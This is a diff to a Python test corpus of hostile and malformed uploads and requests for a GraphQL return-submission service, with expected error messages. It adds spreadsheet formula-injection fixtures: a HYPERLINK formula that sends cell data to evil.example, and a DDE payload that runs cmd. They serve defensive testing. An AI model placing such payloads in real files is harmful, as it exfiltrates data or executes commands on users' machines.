@@ -1,7 +1,10 @@
-"""A corpus of hostile or broken uploads and requests, each with what its refusal must say.
+"""A corpus of hostile or broken uploads and requests, each with what its answer must say.
 
 Upload cases are (file name, bytes) lists sent through submitReturn's multipart upload;
 request cases are raw HTTP requests. Every one must get a clear error and store nothing.
+Flagged cases are uploads that are readable but carry a hostile value (a spreadsheet
+formula): the council may mean such text, so the version is stored, and its report must
+flag the value with the named rule.
 """
 
 from __future__ import annotations
@@ -10,7 +13,7 @@ import io
 import json
 import zipfile
 from collections.abc import Callable
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 
 CHILD = "child_id,sex\nC1,F\n"
 
@@ -43,10 +46,19 @@ def _bomb() -> list[tuple[str, bytes]]:
 @dataclass(frozen=True)
 class Request:
     name: str
-    body: bytes
-    headers: dict[str, str] = field(default_factory=dict)
-    says: str = ""
+    body: bytes  # COLLECTION in it is replaced by the id of an open collection
+    headers: dict[str, str]
+    says: str  # part of the error message the answer must carry
     status: int | None = None  # expected HTTP status, when not 200
+
+
+@dataclass(frozen=True)
+class Flagged:
+    name: str
+    files: list[tuple[str, bytes]]
+    rule_id: str  # the rule whose issue the report must hold
+    line: int  # the line of the flagged value
+    says: str  # part of that issue's message
 
 
 UPLOADS: list[Upload] = [
@@ -139,8 +151,14 @@ JSON = {"content-type": "application/json"}
 MULTIPART = "multipart/form-data; boundary=x"
 
 REQUESTS: list[Request] = [
-    Request("not json", b"{not json", JSON, status=400),
-    Request("unsupported content type", b"query", {"content-type": "text/plain"}, status=400),
+    Request("not json", b"{not json", JSON, "Unable to parse request body as JSON", 400),
+    Request(
+        "unsupported content type",
+        b"query",
+        {"content-type": "text/plain"},
+        "Unsupported content type",
+        400,
+    ),
     Request(
         "upload without preflight header",
         b"--x--",
@@ -152,13 +170,26 @@ REQUESTS: list[Request] = [
         "malformed multipart",
         b"--x\r\nnonsense",
         {"content-type": MULTIPART, "graphql-require-preflight": "1"},
-        status=400,
+        "No GraphQL query found",
+        400,
+    ),
+    Request(
+        "oversized multipart upload, refused by its declared length before it is read",
+        b"--x--",
+        {
+            "content-type": MULTIPART,
+            "graphql-require-preflight": "1",
+            "content-length": str(300 * 1024 * 1024),
+        },
+        "An upload may be at most 268435456 bytes",
+        413,
     ),
     Request(
         "oversized json body",
         b'{"query": "{ __typename }", "pad": "' + b"x" * 3_000_000 + b'"}',
         JSON,
-        status=413,
+        "A GraphQL request body may be at most 2097152 bytes",
+        413,
     ),
     Request(
         "graphql syntax error", b'{"query": "mutation { submitReturn( }"}', JSON, "Syntax Error"
@@ -208,8 +239,37 @@ REQUESTS: list[Request] = [
         "records not an object",
         b'{"query": "mutation($i: SubmitReturnInput!) { submitReturn(input: $i) '
         b'{ errors { message } } }", '
-        b'"variables": {"i": {"collectionId": "x", "records": [1, 2]}}}',
+        b'"variables": {"i": {"collectionId": "COLLECTION", "records": [1, 2]}}}',
         JSON,
-        "",
+        "records must be an object of entity name to a list of rows",
+    ),
+]
+
+
+# A child record of the smallest valid shape, with `child_id` as given (a free-text field).
+def _child(child_id: bytes) -> list[tuple[str, bytes]]:
+    return [
+        (
+            "child.csv",
+            b"child_id,council,date_of_birth,sex,ethnicity,disability\n"
+            b"C0,S12000036,2012-03-04,F,WS,N\n" + child_id + b",S12000036,2012-03-04,F,WS,N\n",
+        )
+    ]
+
+
+FLAGGED: list[Flagged] = [
+    Flagged(
+        "formula injection in a text value",
+        _child(b'"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'),
+        "FORMULA-001",
+        3,
+        "can run as a formula",
+    ),
+    Flagged(
+        "dde payload after a tab",
+        _child(b"\"\t@SUM(1+9)*cmd|' /C calc'!A0\""),
+        "FORMULA-001",
+        3,
+        "can run as a formula",
     ),
 ]
